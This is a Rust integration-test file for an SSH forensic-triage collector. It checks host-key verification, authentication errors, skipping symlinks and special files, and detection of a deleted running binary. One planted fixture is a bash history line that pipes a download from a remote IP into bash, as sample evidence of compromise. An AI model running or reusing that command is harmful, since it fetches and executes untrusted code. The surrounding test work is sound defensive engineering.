//! SSH collection against a real OpenSSH server on loopback (see `riposte_ssh::testing`).

use async_trait::async_trait;
use riposte_acquire::TriageProfile;
use riposte_model::SshSecret;
use riposte_ssh::testing::{ServerOptions, SshServer, StallingServer, free_port, keygen, put};
use riposte_ssh::{
    FileLimits, FileSelection, HostKeyPolicy, HostKeyRefusal, HostKeyTrust, ItemSink, RemoteItem,
    SshCollectOptions, SshError, SshSession, SshTarget, SshTimeouts, collect,
};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt};

/// Keeps every item in memory.
#[derive(Default)]
struct Kept {
    items: BTreeMap<String, (Vec<u8>, Option<String>)>,
}

#[async_trait]
impl ItemSink for Kept {
    async fn put(
        &mut self,
        item: &RemoteItem,
        content: &mut (dyn AsyncRead + Unpin + Send),
    ) -> std::io::Result<()> {
        let mut bytes = Vec::new();
        content.read_to_end(&mut bytes).await?;
        self.items
            .insert(item.original_path.clone(), (bytes, item.command.clone()));
        Ok(())
    }
}

fn target(server: &SshServer) -> SshTarget {
    SshTarget {
        address: "127.0.0.1".into(),
        port: server.port,
        user: server.user.clone(),
    }
}

fn key_of(server: &SshServer) -> SshSecret {
    SshSecret::PrivateKey {
        private_key: server.client.private.clone(),
        passphrase: None,
    }
}

fn pinned(server: &SshServer) -> HostKeyPolicy {
    HostKeyPolicy {
        known_hosts: vec![server.known_hosts_line()],
        ..Default::default()
    }
}

fn quick() -> SshTimeouts {
    SshTimeouts {
        connect: Duration::from_secs(3),
        operation: Duration::from_secs(10),
    }
}

/// A folder sshd accepts as a chroot: every component root-owned and writable by root
/// only (the system temp folder is world-writable, so not there).
fn chroot_dir() -> tempfile::TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

fn sha(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn options(files: bool, live: bool) -> SshCollectOptions<'static> {
    SshCollectOptions {
        selection: FileSelection::Profile(TriageProfile::linux()),
        limits: FileLimits::default(),
        files,
        live,
        sudo: false,
    }
}

#[tokio::test]
async fn an_sftp_only_host_gives_its_triage_files_without_following_links_and_says_why_there_is_no_live_state()
 {
    let tree = chroot_dir();
    let root = tree.path();
    let auth = b"Mar  1 10:00:01 web1 sshd[100]: Failed password for root from 203.0.113.66 port 4242 ssh2\n";
    put(root, "/var/log/auth.log", auth);
    put(root, "/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    put(
        root,
        "/home/bob/.bash_history",
        b"curl http://198.51.100.7/x | bash\n",
    );
    put(root, "/srv/not-selected.txt", b"not in the profile\n");
    put(root, "/proc/1/cmdline", b"never walked\n");
    // A link planted in the tree towards the machine's own shadow file.
    std::os::unix::fs::symlink("/etc/shadow", root.join("etc/shadow")).unwrap();
    // A 2 GiB file (sparse) and a FIFO in a staging folder.
    let big = std::fs::File::create(root.join("var/log/syslog")).unwrap();
    big.set_len(2 << 30).unwrap();
    std::fs::create_dir_all(root.join("tmp")).unwrap();
    let fifo = root.join("tmp/pipe");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let server = SshServer::start(ServerOptions {
        chroot: Some(root.to_path_buf()),
        ..Default::default()
    });
    let session = SshSession::connect(
        &target(&server),
        &key_of(&server),
        &pinned(&server),
        quick(),
    )
    .await
    .unwrap();
    assert_eq!(session.host_key().trust, HostKeyTrust::Pinned);
    let mut kept = Kept::default();
    let options = options(true, true);
    let collection = collect(&session, &options, &mut kept).await.unwrap();

    let paths: Vec<&str> = kept.items.keys().map(String::as_str).collect();
    assert_eq!(
        paths,
        [
            "/etc/passwd",
            "/home/bob/.bash_history",
            "/var/log/auth.log"
        ],
        "{collection:?}"
    );
    assert_eq!(sha(&kept.items["/var/log/auth.log"].0), sha(auth));
    let reason = |path: &str| {
        collection
            .files
            .skipped
            .iter()
            .find(|s| s.path == path)
            .map(|s| s.reason.clone())
            .unwrap_or_else(|| panic!("{path} not reported: {collection:?}"))
    };
    assert!(reason("/etc/shadow").contains("symbolic link"));
    assert!(reason("/var/log/syslog").contains("larger than the 1024 MiB limit"));
    assert!(reason("/tmp/pipe").contains("not a regular file"));
    let unavailable = collection.live.unavailable.as_deref().unwrap();
    assert!(unavailable.contains("only SFTP"), "{unavailable}");
    let report = collection.acquisition_report(&options, 3);
    assert_eq!(report.items, 3);
    assert_eq!(report.profiles, ["linux-triage"]);
    assert!(
        report
            .skipped
            .iter()
            .any(|s| s.reason.starts_with("live state unavailable"))
    );
    session.close().await;
}

#[tokio::test]
async fn the_live_state_shows_a_process_running_a_deleted_binary_and_a_listening_socket() {
    let server = SshServer::start(ServerOptions::default());
    // A binary copied to a staging folder, started, then deleted; a socket listening in
    // this test process.
    let staging = tempfile::tempdir().unwrap();
    let binary = staging.path().join("kworkerd");
    std::fs::copy("/bin/sleep", &binary).unwrap();
    let mut child = std::process::Command::new(&binary)
        .arg("3600")
        .spawn()
        .unwrap();
    std::fs::remove_file(&binary).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let session = SshSession::connect(
        &target(&server),
        &key_of(&server),
        &pinned(&server),
        quick(),
    )
    .await
    .unwrap();
    let mut kept = Kept::default();
    let collection = collect(&session, &options(false, true), &mut kept)
        .await
        .unwrap();
    child.kill().unwrap();
    let _ = child.wait();
    assert!(collection.live.unavailable.is_none(), "{collection:?}");
    let (processes, command) = &kept.items["/$Riposte/live/processes"];
    let processes = String::from_utf8_lossy(processes);
    let pid = child.id().to_string();
    let line = processes
        .lines()
        .find(|l| l.split_whitespace().next() == Some(pid.as_str()))
        .unwrap_or_else(|| panic!("pid {pid} not listed:\n{processes}"));
    assert!(
        line.ends_with(&format!("{} 3600", binary.display())),
        "{line}"
    );
    let exe = format!("{pid}\t{} (deleted)", binary.display());
    assert!(
        processes.lines().any(|l| l == exe),
        "no {exe:?} in\n{processes}"
    );
    assert!(command.as_deref().unwrap().contains("ps -ww -eo"));
    let sockets = String::from_utf8_lossy(&kept.items["/$Riposte/live/sockets"].0).to_string();
    let me = format!("pid={},", std::process::id());
    assert!(
        sockets.lines().any(|l| l.contains("LISTEN")
            && l.contains(&format!("127.0.0.1:{port} "))
            && l.contains(&me)),
        "listening socket {port} of {me} not in\n{sockets}"
    );
    // Kernel modules and systemd units may be missing where the tests run (a container):
    // then the failure is reported, never silently dropped.
    for name in ["modules", "units"] {
        let path = format!("/$Riposte/live/{name}");
        assert!(
            kept.items.contains_key(&path) || collection.live.failed.iter().any(|f| f.path == path),
            "{name} neither collected nor reported: {collection:?}"
        );
    }
    for name in ["logins", "mounts"] {
        assert!(
            kept.items.contains_key(&format!("/$Riposte/live/{name}")),
            "{name} missing: {collection:?}"
        );
    }
    drop(listener);
    session.close().await;
}

async fn refusal(target: SshTarget, secret: &SshSecret, policy: &HostKeyPolicy) -> SshError {
    match SshSession::connect(&target, secret, policy, quick()).await {
        Ok(_) => panic!("connected to {target:?}"),
        Err(e) => e,
    }
}

#[tokio::test]
async fn host_keys_are_verified_and_first_use_is_only_trusted_when_asked() {
    let server = SshServer::start(ServerOptions::default());
    let offered =
        riposte_ssh::fingerprint(&russh::keys::PublicKey::from_openssh(&server.host_key).unwrap());
    // Unknown, no trust on first use: refused, naming the key offered.
    let e = refusal(target(&server), &key_of(&server), &HostKeyPolicy::default()).await;
    assert!(
        matches!(&e, SshError::HostKey { refusal: HostKeyRefusal::Unknown, fingerprint, .. } if *fingerprint == offered),
        "{e}"
    );
    assert!(!e.is_retryable());
    assert!(e.to_string().contains(&offered), "{e}");
    // Another key pinned for the host: a changed key.
    let other = keygen(server.dir.path(), "other", "ed25519", "");
    let wrong = HostKeyPolicy {
        known_hosts: vec![format!("[127.0.0.1]:{} {}", server.port, other.public)],
        ..Default::default()
    };
    let e = refusal(target(&server), &key_of(&server), &wrong).await;
    assert!(e.to_string().contains("CHANGED"), "{e}");
    // Pinned by fingerprint, then trusted on first use, then remembered.
    let by_fingerprint = HostKeyPolicy {
        known_hosts: vec![offered.clone()],
        ..Default::default()
    };
    let s = SshSession::connect(&target(&server), &key_of(&server), &by_fingerprint, quick())
        .await
        .unwrap();
    assert_eq!(s.host_key().trust, HostKeyTrust::Pinned);
    let tofu = HostKeyPolicy {
        trust_on_first_use: true,
        ..Default::default()
    };
    let s = SshSession::connect(&target(&server), &key_of(&server), &tofu, quick())
        .await
        .unwrap();
    assert!(s.first_use());
    assert_eq!(s.host_key().fingerprint, offered);
}

#[tokio::test]
async fn bad_credentials_and_unreachable_hosts_get_clear_errors() {
    let server = SshServer::start(ServerOptions::default());
    let policy = pinned(&server);
    let e = refusal(
        target(&server),
        &SshSecret::Password {
            password: "not-the-password".into(),
        },
        &policy,
    )
    .await;
    assert!(
        matches!(
            e,
            SshError::Authentication {
                method: "password",
                ..
            }
        ),
        "{e}"
    );
    // A key protected by a passphrase, given the wrong one, and none.
    let locked = keygen(server.dir.path(), "locked", "ed25519", "correct horse");
    let e = refusal(
        target(&server),
        &SshSecret::PrivateKey {
            private_key: locked.private.clone(),
            passphrase: Some("wrong".into()),
        },
        &policy,
    )
    .await;
    assert!(
        matches!(&e, SshError::BadKey(m) if m.contains("wrong passphrase")),
        "{e}"
    );
    let e = refusal(
        target(&server),
        &SshSecret::PrivateKey {
            private_key: locked.private.clone(),
            passphrase: None,
        },
        &policy,
    )
    .await;
    assert!(e.to_string().contains("passphrase"), "{e}");
    // A key the server does not authorize.
    let stranger = keygen(server.dir.path(), "stranger", "ed25519", "");
    let e = refusal(
        target(&server),
        &SshSecret::PrivateKey {
            private_key: stranger.private,
            passphrase: None,
        },
        &policy,
    )
    .await;
    assert!(
        matches!(
            e,
            SshError::Authentication {
                method: "private_key",
                ..
            }
        ),
        "{e}"
    );
    // Nothing listening.
    let closed = SshTarget {
        port: free_port(),
        ..target(&server)
    };
    let e = refusal(closed, &key_of(&server), &policy).await;
    assert!(
        matches!(e, SshError::Connect { .. }) && e.is_retryable(),
        "{e}"
    );
    // A server that accepts and never answers.
    let stalling = StallingServer::start();
    let started = std::time::Instant::now();
    let e = refusal(
        SshTarget {
            port: stalling.port,
            ..target(&server)
        },
        &key_of(&server),
        &policy,
    )
    .await;
    assert!(
        matches!(e, SshError::Timeout { .. }) && e.is_retryable(),
        "{e}"
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}

#[tokio::test]
async fn an_encrypted_rsa_key_logs_in() {
    let server = SshServer::start(ServerOptions::default());
    let rsa = keygen(server.dir.path(), "client_rsa", "rsa", "s3cret");
    let authorized = server.dir.path().join("authorized_keys");
    let mut keys = std::fs::read_to_string(&authorized).unwrap();
    keys.push_str(&format!("{}\n", rsa.public));
    std::fs::write(&authorized, keys).unwrap();
    let secret = SshSecret::PrivateKey {
        private_key: rsa.private,
        passphrase: Some("s3cret".into()),
    };
    let session = SshSession::connect(&target(&server), &secret, &pinned(&server), quick())
        .await
        .unwrap();
    let out = session
        .run("echo hello", 1024, Duration::from_secs(5))
        .await
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "hello\n");
    assert!(out.success());
}
